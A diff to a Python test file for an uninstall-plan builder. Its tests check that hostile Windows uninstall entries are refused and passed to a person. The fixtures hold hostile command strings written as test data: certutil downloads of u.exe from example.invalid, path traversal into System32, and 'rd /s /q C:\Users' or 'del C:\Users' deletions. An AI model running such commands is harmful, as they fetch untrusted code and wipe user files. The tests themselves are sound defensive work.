@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 from pathlib import Path
 
 import pytest
@@ -10,6 +11,7 @@ from core.findings import Evidence, Finding
 from core.policy.loader import load_policies
 from core.policy.model import Enforcement
 from core.removal.builder import Host, build_plan
+from core.messages import Message
 from core.removal.model import Actor, FileAction, StepKind
 from core.sources.base import LINUX, MACOS, WINDOWS, EvidenceKind, ScanTarget
 
@@ -18,6 +20,7 @@ INSTALLED, RUNNING = EvidenceKind.INSTALLED, EvidenceKind.RUNNING
 UNINSTALL_32 = r"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Uninstall"
 KES = "{27534751-4A40-48BD-B393-BC3BF28C876E}"
 WECHAT_FOLDER = r"C:\Program Files (x86)\Tencent\WeChat"
+MSIEXEC = r"C:\Windows\System32\msiexec.exe"
 
 
 def finding(rule_id: str, *evidence: Evidence) -> Finding:
@@ -25,8 +28,14 @@ def finding(rule_id: str, *evidence: Evidence) -> Finding:
     return Finding(rule, POLICIES.directive(rule.directive_id), Enforcement.RECOMMENDED, evidence)
 
 
-def host(tmp_path: Path, is_root: bool = True, programs=("apt-get", "dnf", "pkexec")) -> Host:
-    return Host(is_root, lambda name: name in programs, tmp_path / "home")
+def apt_simulation(*removed: str):
+    """What `apt-get -s remove` prints (its Remv lines), for plans built without the real packages;
+    tests/core/removal/test_package_removals.py runs the real apt-get on real packages."""
+    return lambda argv: "".join(f"Remv {name} [1.0]\n" for name in removed or argv[3:])
+
+
+def host(tmp_path: Path, is_root: bool = True, programs=("apt-get", "dnf", "pkexec"), simulate=None) -> Host:
+    return Host(is_root, lambda name: name in programs, tmp_path / "home", simulate=simulate or apt_simulation())
 
 
 def summary(plan):
@@ -65,7 +74,7 @@ def test_windows_msi_product_runs_msiexec_with_the_evidence_code(tmp_path):
     plan = build_plan(finding("kaspersky", *evidence), ScanTarget(tmp_path, WINDOWS, live=True), POLICIES, host(tmp_path))
     assert summary(plan)[0] == (
         rf"uninstall:windows_uninstall:HKLM\SOFTWARE\x\Uninstall\{KES}", StepKind.UNINSTALL, Actor.APPWARDEN, True,
-        [("msiexec", "/x", KES)], None,
+        [(MSIEXEC, "/x", KES)], None,
     )
     assert [s.id for s in plan.steps] == [plan.steps[0].id, "vendor:1", "vendor:2", "vendor:3", "restart", "verify"]
     assert [s.title.get("en") for s in plan.steps[1:4]] == [
@@ -82,6 +91,8 @@ def test_windows_msi_product_runs_msiexec_with_the_evidence_code(tmp_path):
         (rf'"{WECHAT_FOLDER}\Uninstall.exe" | del C:\Users', "the uninstall command uses {characters}, which only a command shell understands"),
         (rf'"{WECHAT_FOLDER}\Uninst"all.exe" /S', "the uninstall command has unbalanced quotation marks"),
         (r'"C:\Users\Public\Uninstall.exe"', "the uninstaller {program} is outside the app's folder {folder}"),
+        (rf"{WECHAT_FOLDER}/../../../Windows/System32/certutil.exe -urlcache -f http://example.invalid/u.exe",
+         "the uninstaller {program} is outside the app's folder {folder}"),
         (r"cmd /c rd /s /q C:\Users", "the uninstall command starts {program}, which runs other commands, not an uninstaller"),
         (r"rundll32.exe C:\x.dll,Go", "the uninstall command starts {program}, which runs other commands, not an uninstaller"),
         (f"MsiExec.exe /X{KES}", "the Windows Installer command names product {code}, which is not this app's"),
@@ -91,6 +102,40 @@ def test_hostile_uninstall_strings_become_refused_person_steps(tmp_path, uninsta
     plan = build_plan(finding("wechat", windows_entry(uninstall)), ScanTarget(tmp_path, WINDOWS, live=True), POLICIES, host(tmp_path))
     step = plan.steps[0]
     assert (step.actor, step.commands, step.refused.template) == (Actor.PERSON, (), reason)
+    assert "restart" not in [s.id for s in plan.steps]
+
+
+def test_windows_msi_entry_without_an_uninstall_string_runs_the_msiexec_of_the_hosts_windows_folder(tmp_path):
+    details = (("view", "64-bit"), ("scope", "machine"))
+    evidence = Evidence("windows_uninstall", INSTALLED, "msi_product_code", KES, rf"HKLM\SOFTWARE\x\Uninstall\{KES}", "12.4", "KES", details)
+    windows_host = Host(True, lambda name: False, tmp_path / "home", windows_folder=r"D:\WINNT")
+    plan = build_plan(finding("kaspersky", evidence), ScanTarget(tmp_path, WINDOWS, live=True), POLICIES, windows_host)
+    assert summary(plan)[0][4] == [(r"D:\WINNT\System32\msiexec.exe", "/x", KES)]
+
+
+@pytest.mark.skipif(os.name == "nt", reason="on Windows the folder is the one Windows reports")
+def test_a_host_that_is_not_windows_names_the_default_windows_folder():
+    assert Host.this_computer().windows_folder == "C:\\Windows"
+
+
+@pytest.mark.parametrize(
+    ("location", "uninstall", "what"),
+    [
+        (r"C:\Windows\System32", r"C:\Windows\System32\certutil.exe -urlcache -split -f http://example.invalid/u.exe u.exe",
+         "a Windows folder or a folder inside it"),
+        ("C:\\", r"C:\Windows\System32\certutil.exe -urlcache -split -f http://example.invalid/u.exe u.exe", "the root folder of a drive"),
+        (r"C:\Users\ana\AppData\Roaming", r"C:\Users\ana\AppData\Roaming\x\u.exe", "a user's AppData folder"),
+    ],
+)
+def test_an_entry_whose_install_folder_is_shared_becomes_a_refused_person_step(tmp_path, location, uninstall, what):
+    plan = build_plan(finding("wechat", windows_entry(uninstall, location)), ScanTarget(tmp_path, WINDOWS, live=True), POLICIES, host(tmp_path))
+    step = plan.steps[0]
+    reason = Message.of(
+        "the entry says the app is installed in {folder}, which is {what}, not an app's own folder, so its uninstaller cannot be checked",
+        folder=location, what=Message.of(what),
+    )
+    assert (step.actor, step.commands, step.refused) == (Actor.PERSON, (), reason)
+    assert dict(step.explanation.values)["reason"] == reason
     assert "restart" not in [s.id for s in plan.steps]
 
 
@@ -153,7 +198,7 @@ def test_snap(tmp_path):
         (True, ("apt-get",), Actor.APPWARDEN, ("apt-get", "remove", "-y", "wechat")),
         (True, (), Actor.APPWARDEN, ("dpkg", "--remove", "wechat")),
         (False, ("apt-get", "pkexec"), Actor.APPWARDEN, ("pkexec", "apt-get", "remove", "-y", "wechat")),
-        (False, ("apt-get",), Actor.PERSON, ("sudo", "apt-get", "remove", "-y", "wechat")),
+        (False, ("apt-get",), Actor.PERSON, ("sudo", "apt-get", "remove", "wechat")),  # the person sees apt-get's own list
     ],
 )
 def test_debian_package_through_pkexec_when_not_root(tmp_path, is_root, programs, actor, argv):
